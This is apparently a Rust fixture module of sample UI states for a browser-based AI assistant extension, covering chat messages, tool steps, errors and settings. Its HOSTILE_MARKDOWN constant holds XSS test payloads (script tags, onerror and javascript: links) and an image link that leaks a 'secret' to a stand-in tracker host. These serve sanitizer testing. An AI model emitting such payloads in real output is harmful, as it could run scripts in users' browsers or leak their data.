//! Sample data for the playground, the snapshot tests and the browser tests: one function per UI
//! state, built only from the public types so it doubles as an example of driving the UI.

use std::rc::Rc;

use serde_json::json;

use crate::types::{
    ChatMessage, ErrorKind, ModelChoice, ModelInfo, ModelSource, ModelStatus, Settings,
    SitePermission, ToolState, ToolStep, UiError,
};

/// A small PNG of a made-up page, standing in for a screenshot.
pub const SCREENSHOT: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAKAAAABkCAIAAACO1KzYAAAA90lEQVR42u3asQmAMBBA0YwjDmBh7QCO6gQWDuAUThEE7QRLMcVxPPgT5DV3Sco8HUpccQSABViABViABViAAQuwAAuwAOsXcK2nEgcYsAALsAALsADrC3DXD3oCDBgwYMCAAQMGDNiaZE0SYAEWYAEWYAEG/G7ddgUPMGDAgJUTWKZoARZgARZgWZNiLjOAAQMGDBiwTNECLMACLMCyJnnwBwxYgOVPlkzRAizAAgxYbrLkR4cAAwYM2JAlwIAFWIAFWIAFWC2Ax+UKGDbAAgwYMGDAgAEDBgwYMGABBgwYMGDAgAED9lwowAIM2CkAFmABFmA17waJ/PMQtAMoCAAAAABJRU5ErkJggg==";

/// The site the samples pretend to run on.
pub const SITE: &str = "https://shop.example";

fn rc(messages: Vec<ChatMessage>) -> Vec<Rc<ChatMessage>> {
    messages.into_iter().map(Rc::new).collect()
}

pub fn model_ready() -> ModelStatus {
    ModelStatus::Ready {
        model: ModelChoice::E2b,
        unverified: Vec::new(),
    }
}

/// A download a third of the way through, with a known speed.
pub fn model_downloading() -> ModelStatus {
    ModelStatus::Downloading {
        model: ModelChoice::E2b,
        loaded_bytes: 512_000_000,
        total_bytes: 1_540_000_000,
        bytes_per_second: Some(8_500_000.0),
    }
}

pub fn model_initializing() -> ModelStatus {
    ModelStatus::Initializing {
        model: ModelChoice::E4b,
    }
}

/// A question and an answer that is still streaming.
pub fn streaming() -> Vec<Rc<ChatMessage>> {
    let mut answer = ChatMessage::assistant(
        1,
        "This page sells **three laptops**. The cheapest is the\n\n- *Aero 13* at",
    );
    answer.streaming = true;
    rc(vec![
        ChatMessage::user(0, "What does this page sell?"),
        answer,
    ])
}

/// An answer with a finished thinking section, a code block, a table and a link.
pub fn code_and_thinking() -> Vec<Rc<ChatMessage>> {
    let mut answer = ChatMessage::assistant(
        1,
        "Here is a snippet that collects every price:\n\n```js\nconst prices = [...document.querySelectorAll('.price')]\n  .map(el => el.textContent.trim());\nconsole.log(prices);\n```\n\n| Model | Price |\n|---|---|\n| Aero 13 | $899 |\n| Volt 15 | $1,249 |\n\nSee the [MDN docs](https://developer.mozilla.org/) for `querySelectorAll`.",
    );
    answer.thinking = "The user wants code. The prices are in elements with class `price`; a one-liner with querySelectorAll is enough.".into();
    rc(vec![
        ChatMessage::user(0, "Give me JS that lists the prices.\nKeep it short."),
        answer,
    ])
}

/// Thinking still streaming, nothing answered yet.
pub fn thinking_live() -> Vec<Rc<ChatMessage>> {
    let mut answer = ChatMessage::assistant(1, "");
    answer.thinking =
        "The page has a search box with id `q`. I should type the query and then".into();
    answer.streaming = true;
    rc(vec![ChatMessage::user(0, "Search for USB-C hubs"), answer])
}

/// One tool step in each state (approval pending included), with durations, results, a screenshot.
pub fn tool_steps() -> Vec<ToolStep> {
    let mut pending = ToolStep::new("c1", "get_page_title", json!({}));
    pending.state = ToolState::Pending;
    let mut done = ToolStep::new("c2", "read_page_content", json!({"max_chars": 4000}));
    done.state = ToolState::Done;
    done.duration_ms = Some(84.0);
    done.result_preview = Some(
        "Laptops — Aero 13 ($899), Volt 15 ($1,249), Nimbus 14 ($1,099). Free shipping over $50."
            .into(),
    );
    let mut shot = ToolStep::new("c3", "take_screenshot", json!({}));
    shot.state = ToolState::Done;
    shot.duration_ms = Some(412.0);
    shot.screenshot = Some(SCREENSHOT.into());
    let mut running = ToolStep::new(
        "c4",
        "click_element",
        json!({"ref": 12, "selector": "button.add-to-cart"}),
    );
    running.state = ToolState::Running;
    let mut failed = ToolStep::new("c5", "type_text", json!({"ref": 99, "text": "USB-C hub"}));
    failed.state = ToolState::Failed;
    failed.duration_ms = Some(3.0);
    failed.result_preview =
        Some("No element with ref 99: the page changed. Take a new snapshot.".into());
    let mut approval = ToolStep::new(
        "c6",
        "run_javascript",
        json!({"code": "document.querySelector('form#checkout').submit()"}),
    );
    approval.state = ToolState::AwaitingApproval;
    approval.approval_reason = Some(
        "Gemma Gem wants to run JavaScript on this page (it submits the checkout form).".into(),
    );
    vec![pending, done, shot, running, failed, approval]
}

/// An agent turn with every tool state, waiting for an approval.
pub fn with_tools() -> Vec<Rc<ChatMessage>> {
    let mut answer = ChatMessage::assistant(1, "");
    answer.tools = tool_steps();
    answer.streaming = true;
    rc(vec![
        ChatMessage::user(0, "Add the cheapest laptop to the cart and check out."),
        answer,
    ])
}

/// A conversation long enough to scroll.
pub fn long_conversation() -> Vec<Rc<ChatMessage>> {
    let mut messages = Vec::new();
    let topics = [
        (
            "Summarize this article.",
            "The article argues that **on-device models** are now fast enough for everyday browsing tasks: summaries, form filling and search.",
        ),
        (
            "Which sections are the most technical?",
            "Sections 3 and 4: they cover *WebGPU kernels* and KV-cache layout.",
        ),
        (
            "List the benchmarks it mentions.",
            "1. Tokens per second on a laptop GPU\n2. Time to first token\n3. Peak GPU memory",
        ),
        (
            "Any numbers for phones?",
            "Not in this article; it only measures laptops and desktops.",
        ),
        (
            "Translate the title to French.",
            "« Les modèles sur l'appareil sont prêts pour le navigateur »",
        ),
        (
            "What's the author's conclusion?",
            "That privacy-preserving assistants should run locally by default, with the cloud as an opt-in.",
        ),
    ];
    for (i, (q, a)) in topics.iter().enumerate() {
        let id = i as u64 * 2;
        messages.push(ChatMessage::user(id, *q));
        messages.push(ChatMessage::assistant(id + 1, *a));
    }
    rc(messages)
}

/// A stopped answer.
pub fn stopped() -> Vec<Rc<ChatMessage>> {
    let mut answer = ChatMessage::assistant(1, "Sure — the first step is to open the");
    answer.stopped = true;
    rc(vec![
        ChatMessage::user(0, "Walk me through the settings page."),
        answer,
    ])
}

/// Model output that tries to inject HTML and scripts.
pub const HOSTILE_MARKDOWN: &str = "Look: <img src=x onerror=\"alert('xss')\"> and <script>alert('xss')</script>\n\n[click me](javascript:alert('xss')) or [this](JAVASCRIPT:alert(1)) and ![pic](https://tracker.example/p.png?leak=secret)\n\n<div onclick=\"alert(1)\">raw block</div>\n";

/// One banner per error kind, with a technical detail.
pub fn all_errors() -> Vec<UiError> {
    ErrorKind::ALL
        .into_iter()
        .map(|kind| {
            let detail = match kind {
                ErrorKind::WebGpuUnavailable => "navigator.gpu.requestAdapter() returned null",
                ErrorKind::DownloadFailed => "GET model.onnx_data: network error after 612 MB",
                ErrorKind::OutOfMemory => "GPUDevice lost: out of memory (needs about 3.1 GB)",
                ErrorKind::ModelLoadFailed => {
                    "unsupported op MatMulNBits (domain com.microsoft), node /layers.0/mlp"
                }
                ErrorKind::GenerationFailed => "GPU device was lost during decoding",
                ErrorKind::ContextInvalidated => "",
                ErrorKind::SiteDisabled => "",
                ErrorKind::SaveFailed => {
                    "chrome.storage.sync.set failed: QUOTA_BYTES_PER_ITEM quota exceeded"
                }
            };
            UiError::new(kind, detail)
        })
        .collect()
}

/// Settings with something in every list.
pub fn settings() -> Settings {
    Settings {
        model: ModelChoice::E2b,
        thinking: true,
        max_iterations: 12,
        temperature: 0.7,
        disabled_sites: vec!["https://bank.example".into(), "https://mail.example".into()],
        site_permissions: vec![
            SitePermission {
                site: SITE.into(),
                tool: "run_javascript".into(),
                allowed: true,
            },
            SitePermission {
                site: "https://news.example".into(),
                tool: "submit_form".into(),
                allowed: false,
            },
        ],
        model_source: ModelSource::HuggingFace,
        confirmed_http_mirror: None,
        image_tokens: 560,
        constrain_tool_calls: true,
    }
}

/// E2B fully cached, E4B half downloaded.
pub fn models() -> Vec<ModelInfo> {
    vec![
        ModelInfo {
            model: ModelChoice::E2b,
            download_bytes: 1_540_000_000,
            cached_bytes: Some(1_540_000_000),
        },
        ModelInfo {
            model: ModelChoice::E4b,
            download_bytes: 3_100_000_000,
            cached_bytes: Some(1_200_000_000),
        },
    ]
}
